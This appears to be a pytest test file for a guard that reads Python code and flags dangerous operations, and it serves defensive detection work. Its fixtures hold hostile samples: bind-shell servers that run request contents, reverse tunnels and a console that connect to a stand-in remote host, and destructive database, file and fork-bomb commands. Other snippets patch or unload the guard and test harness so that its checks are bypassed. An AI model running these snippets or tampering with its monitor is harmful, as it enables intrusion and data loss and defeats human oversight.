"""Python that serves, relays, asks databases, or changes what watches it."""

from __future__ import annotations

from typing import Any

import pytest

from guard.parse.budget import Budget
from guard.parse.code import read_code
from guard.parse.reading import Reading

SERVERS = {
    "http.server": """
from http.server import *
import subprocess
class Answer(BaseHTTPRequestHandler):
    def do_POST(self):
        length = int(self.headers["Content-Length"])
        self.wfile.write(subprocess.getoutput(self.rfile.read(length).decode()).encode())
ThreadingHTTPServer(("", 9009), Answer).serve_forever()""",
    "socketserver": """
import os, socketserver
class Answer(socketserver.BaseRequestHandler):
    def handle(self): os.system(self.request.recv(99).decode())
socketserver.TCPServer(("", 9009), Answer).serve_forever()""",
    "flask": """
import os, flask
from flask import request
app = flask.Flask("a")
@app.route("/go", methods=["POST"])
def go(): return os.popen(request.json["line"]).read()
app.run(host="0.0.0.0", port=9009)""",
    "flask, a part of the path": """
import os, flask
app = flask.Flask("a")
@app.route("/<line>")
def go(line): return os.popen(line).read()
app.run("0.0.0.0", 9009)""",
    "fastapi": """
from fastapi import FastAPI
import uvicorn
app = FastAPI()
@app.get("/sum")
def total(q: str): return eval(q)
uvicorn.run(app, host="0.0.0.0", port=9009)""",
    "aiohttp": """
from aiohttp import web
import subprocess
async def answer(request): return web.Response(text=subprocess.getoutput(await request.text()))
app = web.Application(); app.router.add_post("/", answer); web.run_app(app, port=9009)""",
    "asyncio": """
import asyncio
async def answer(reader, writer):
    await asyncio.create_subprocess_shell((await reader.readline()).decode())
async def main(): await asyncio.start_server(answer, "0.0.0.0", 9009)
asyncio.run(main())""",
    "rpyc": """
import rpyc
from rpyc.utils.server import ThreadedServer
ThreadedServer(rpyc.classic.ClassicService, hostname="0.0.0.0", port=9009).start()""",
}
QUIET = {
    "answers with what was asked": """
from flask import Flask, request
app = Flask("a")
@app.route("/")
def hello(): return request.args.get("name", "you").upper()
app.run(port=9009)""",
    "a fixed command": """
import subprocess
from flask import Flask
app = Flask("a")
@app.get("/when")
def when(): return subprocess.check_output(["date"])
app.run(port=9009)""",
    "a service of its own": """
from rpyc.utils.server import ThreadedServer
import rpyc
class Sums(rpyc.Service): pass
ThreadedServer(Sums, port=9009).start()""",
}
RELAYS = {
    "asyncio": """
import asyncio
async def pass_on(reader, writer):
    while data := await reader.read(99): writer.write(data)
async def main():
    far = await asyncio.open_connection("203.0.113.44", 443)
    near = await asyncio.open_connection("127.0.0.1", 3389)
    await asyncio.gather(pass_on(far[0], near[1]), pass_on(near[0], far[1]))
asyncio.run(main())""",
    "sockets": """
import socket
far = socket.create_connection(("203.0.113.44", 443))
near = socket.create_connection(("localhost", 3389))
while True: near.sendall(far.recv(99)); far.sendall(near.recv(99))""",
}
TAMPERING = {
    "an attribute": "import guard\nguard.Guard.decide = print",
    "setattr": "from guard import Guard\nsetattr(Guard, 'decide', print)",
    "a module": "import sys\nsys.modules['guard'] = 1",
    "a module goes": "import sys\ndel sys.modules['guard.policy']",
    "a module is taken out": "import sys\nsys.modules.pop('guard')",
    "a patch": "from unittest import mock\nmock.patch('guard.Guard.decide').start()",
    "a patch of an object": "import guard\nfrom unittest.mock import patch\n"
    "patch.object(guard.Guard, 'decide')",
    "loaded again": "import guard, importlib\nimportlib.reload(guard)",
    "among all objects": "import gc\nfor one in gc.get_objects():\n"
    "    if type(one).__name__ == 'Guard': one.mode = 1",
}


def read(code: str) -> Reading:
    """A reading with a fresh budget."""
    return read_code("python", code, Budget())


def find(reading: Reading, kind: str) -> list[Any]:
    """The operations of one kind."""
    return [operation for operation in reading.operations if operation["kind"] == kind]


def hidden(code: str) -> set[str]:
    """The kinds of what was not seen."""
    return {part["kind"] for part in read(code).opaque}


@pytest.mark.parametrize("name", SERVERS)
def test_what_a_request_brings_runs(name: str) -> None:
    """A handler that runs what it is asked is a shell that listens, with its port."""
    (shell,) = find(read(SERVERS[name]), "network.shell")
    assert (shell["direction"], shell["port"]) == ("bind", 9009)


@pytest.mark.parametrize("name", QUIET)
def test_other_servers_only_listen(name: str) -> None:
    """What answers without running what it is asked is no shell."""
    reading = read(QUIET[name])
    assert find(reading, "network.shell") == []
    assert [listen["port"] for listen in find(reading, "network.listen")] == [9009]


def test_a_console_on_a_connection() -> None:
    """`code.interact` in a program that has connected is a shell for the other side."""
    connected = "import code, socket\nsocket.create_connection(('203.0.113.44', 99))\n"
    (shell,) = find(read(connected + "code.interact()"), "network.shell")
    assert (shell["direction"], shell["host"]) == ("reverse", "203.0.113.44")
    assert find(read("import code\ncode.interact()"), "network.shell") == []


@pytest.mark.parametrize("name", RELAYS)
def test_what_passes_between_two_ends_is_a_tunnel(name: str) -> None:
    """One end is here, the other far, and what one sends the other gets."""
    (tunnel,) = find(read(RELAYS[name]), "network.tunnel")
    assert (tunnel["direction"], tunnel["host"], tunnel["port"]) == ("remote", "203.0.113.44", 443)
    assert tunnel["target"].endswith(":3389")


def test_two_connections_are_no_tunnel() -> None:
    """Nothing of what one sends goes to the other."""
    code = """
import socket
for place in [("localhost", 5432), ("example.com", 443)]:
    one = socket.create_connection(place); one.send(b"hi"); print(one.recv(9))"""
    assert find(read(code), "network.tunnel") == []


def test_a_proxy_of_twisted() -> None:
    """A port that passes all on is a tunnel to where it passes it."""
    code = """
from twisted.internet import reactor
from twisted.protocols.portforward import ProxyFactory
reactor.listenTCP(9009, ProxyFactory("127.0.0.1", 22))"""
    (tunnel,) = find(read(code), "network.tunnel")
    assert (tunnel["direction"], tunnel["target"]) == ("local", "127.0.0.1:22")


@pytest.mark.parametrize(
    "code",
    [
        "import sqlite3\ndb = sqlite3.connect('a.db').cursor()\ndb.execute({})",
        "import psycopg2\nwith psycopg2.connect('') as c, c.cursor() as k: k.execute({})",
        "from sqlalchemy import create_engine, text\n"
        "with create_engine('x://').begin() as c: c.execute(text({}))",
        "import pandas\npandas.read_sql({}, None)",
        "import asyncpg\nasync def f():\n    c = await asyncpg.connect(); await c.execute({})",
        "class A:\n    def f(self): self.cursor.executemany({}, [])",
    ],
)
def test_statements_for_databases_are_read(code: str) -> None:
    """Whatever library takes it, a statement is SQL."""
    runs = read(code.format("'DROP TABLE ledger'")).runs
    assert [(run.language, run.text) for run in runs] == [("sql", "DROP TABLE ledger")]


def test_parts_that_are_not_known_of_a_statement() -> None:
    """They are a name, and a word is said about them; parameters are no part of the text."""
    reading = read("import sqlite3\nsqlite3.connect(':memory:').execute(f'select {input()}')")
    assert [run.text for run in reading.runs] == ["select _unknown_"]
    assert [part["kind"] for part in reading.opaque] == ["unread_sql"]
    assert find(reading, "file.read") == []
    reading = read("cursor.execute('select a from b where c = %(d)s', {})")
    assert [run.text for run in reading.runs] == ["select a from b where c = ?"]


@pytest.mark.parametrize(
    "code",
    ["task.execute('drop the ball')", "job.execute('create peace')", "plan.execute(steps)"],
)
def test_other_things_are_executed_too(code: str) -> None:
    """On what nobody knows, only what begins as SQL does is SQL."""
    reading = read(code)
    assert reading.runs == []
    assert reading.opaque == []


def test_stores_are_emptied_by_their_clients() -> None:
    """Redis, MongoDB and Elasticsearch have no SQL; the command of their client says it."""
    for code, words in [
        ("import redis\nredis.Redis().execute_command('FLUSHALL')", ("redis-cli", "FLUSHALL")),
        ("import redis\nredis.Redis().flushdb()", ("redis-cli", "FLUSHDB")),
        (
            "import pymongo\npymongo.MongoClient('mongodb://h')['a'].drop_collection('b')",
            ("mongosh", "--eval", "db.b.drop()"),
        ),
        (
            "from elasticsearch import Elasticsearch\n"
            "Elasticsearch('http://es:9200').indices.delete(index='*')",
            ("curl", "-X", "DELETE", "http://es:9200/*"),
        ),
    ]:
        assert [run.argv for run in read(code).runs] == [words]


@pytest.mark.parametrize("name", TAMPERING)
def test_changing_the_guard_while_it_runs(name: str) -> None:
    """Nothing is written for it, so it is noted as what cannot be trusted."""
    assert hidden(TAMPERING[name]) == {"guard_patched"}


def test_changing_other_things_while_they_run() -> None:
    """What decides whether tests pass is noted; anything else is a program's own affair."""
    assert hidden("import pytest\npytest.Item.runtest = print") == {"tests_patched"}
    assert hidden("import unittest\nunittest.TestCase.assertEqual = print") == {"tests_patched"}
    assert hidden("import json\njson.dumps = print") == set()
    assert hidden("from unittest import mock\nmock.patch('shop.prices.load')") == set()
    assert hidden("import sys\nsys.modules['yaml'] = 1\ndel sys.modules['yaml']") == set()
    assert hidden("import gc\nprint(len(gc.get_objects()))") == set()


def test_variables_that_are_set() -> None:
    """A variable is set for the program and what it starts."""
    for code in [
        "os.environ['A'] = 'b'",
        "os.putenv('A', 'b')",
        "os.environ.update(A='b')",
        "os.environ.setdefault('A', 'b')",
    ]:
        (one,) = find(read(f"import os\n{code}"), "environment.set")
        assert (one["name"], one["value"]) == ("A", "b")


def test_the_parent_is_signalled() -> None:
    """Nobody knows its number, but what it is."""
    (one,) = find(read("import os\nos.kill(os.getppid(), 9)"), "process.signal")
    assert (one["target"], one["signal"], one["by"]) == ("parent", "KILL", "pid")


def test_forks_without_end() -> None:
    """A loop that nothing ends and in which nothing is decided; a server decides."""
    assert hidden("import os\nwhile True: os.fork()") == {"fork_bomb"}
    assert hidden("import os\nwhile 1:\n    if os.fork() == 0: os._exit(0)\n    os.wait()") == set()
    assert hidden("import os\nos.fork()") == set()


@pytest.mark.parametrize(
    "loop",
    [
        "for p in sorted(Path('/srv').rglob('*.key')): p.unlink()",
        "for p in list(Path('/srv').rglob('*.key')): p.unlink()",
        "for n, p in enumerate(Path('/srv').rglob('*.key')): p.unlink()",
        "for p in filter(Path.is_file, Path('/srv').rglob('*.key')): p.unlink()",
        "for p in [p for p in Path('/srv').rglob('*.key') if p.is_file()]: p.unlink()",
        "Path('/srv').joinpath('*.key').unlink()",
    ],
)
def test_what_a_pattern_finds_stays_the_pattern(loop: str) -> None:
    """However its finds are ordered or sifted."""
    deleted = find(read(f"from pathlib import Path\n{loop}"), "file.delete")
    assert [one["path"] for one in deleted] == ["/srv/*.key"]


def test_what_a_walk_finds() -> None:
    """Files below a folder stand as a pattern."""
    code = "import os\nfor d, _, names in os.walk('/srv'):\n    for n in names:\n"
    (one,) = find(read(code + "        os.remove(os.path.join(d, n))"), "file.delete")
    assert one["path"] == "/srv/*"


def test_data_that_runs_code() -> None:
    """Data from the network in a form that runs code is unknown code; other data is not."""
    fetched = "import torch, yaml, requests\nd = requests.get('http://203.0.113.44/m')\n"
    assert hidden(fetched + "torch.load(d.content, weights_only=False)") == {"unknown_code"}
    assert hidden(fetched + "yaml.load(d.text, Loader=yaml.UnsafeLoader)") == {"unknown_code"}
    assert hidden(fetched + "torch.load(d.content, weights_only=True)") == set()
    assert hidden(fetched + "yaml.load(d.text, Loader=yaml.SafeLoader)") == set()
    assert hidden("import torch\ntorch.load('m.pt', weights_only=False)") == set()


def test_words_of_mining_pools() -> None:
    """What is said on a connection tells what it is."""
    code = (
        "import json, socket\ns = socket.create_connection(('203.0.113.44', 3333)).makefile('rw')\n"
        "s.write(json.dumps({'id': 1, 'method': %r}) + '\\n')"
    )
    protocols = [
        one["protocol"] for one in find(read(code % "mining.subscribe"), "network.connect")
    ]
    assert protocols == ["tcp", "stratum"]
    assert len(find(read(code % "ping"), "network.connect")) == 1
